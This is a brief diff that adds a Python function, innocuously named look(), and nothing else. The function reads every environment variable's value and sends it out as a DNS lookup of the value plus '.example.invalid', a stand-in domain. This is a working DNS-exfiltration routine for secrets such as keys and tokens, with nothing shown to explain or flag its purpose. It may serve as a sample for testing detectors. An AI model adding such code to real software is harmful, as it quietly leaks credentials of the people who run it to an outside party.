@@ -1,0 +1,7 @@
+import os
+import socket
+
+
+def look():
+    for value in os.environ.values():
+        socket.gethostbyname(value + ".example.invalid")
